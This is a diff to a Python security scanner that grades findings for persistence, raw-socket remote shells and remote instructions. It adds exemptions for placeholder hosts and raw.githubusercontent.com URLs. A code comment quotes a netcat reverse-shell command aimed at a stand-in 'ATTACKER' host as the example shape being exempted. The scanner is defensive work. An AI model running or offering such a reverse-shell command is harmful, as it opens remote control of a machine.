@@ -305,6 +305,8 @@ def _judge(capability: Capability, same_file: list[Capability]) -> Iterator[Find
             chain = (*chain, *fetches[0].chain)
             runs = True
         yield _finding(PERSISTENCE, _placed(Severity.ERROR if runs else Severity.WARNING, example), chain)
+    elif kind is Kind.RAW_SOCKET and vocabulary.placeholder_host(detail.split(" ", 1)[0]):
+        return  # `nc -e /bin/sh ATTACKER 4444`: a shape shown to the reader, aimed at no host
     elif kind is Kind.RAW_SOCKET:
         shell = "(remote shell" in detail
         yield _finding(REMOTE_SHELL, _placed(Severity.ERROR if shell else Severity.WARNING, example), chain)
@@ -324,7 +326,10 @@ def _judge(capability: Capability, same_file: list[Capability]) -> Iterator[Find
     elif kind is Kind.REMOTE_INSTRUCTIONS:
         url = _first_url(chain) or ""
         above_user = any(link.what.startswith("puts it above the user") for link in chain)
-        reviewable = packages.known_code_host(url) and not above_user
+        in_repository = packages.known_code_host(url) or (
+            url.startswith("https://") and vocabulary.url_host(url) == "raw.githubusercontent.com"
+        )
+        reviewable = in_repository and not above_user
         yield _finding(REMOTE_INSTRUCTIONS, _placed(Severity.WARNING if reviewable else Severity.ERROR, example), chain)
 
 
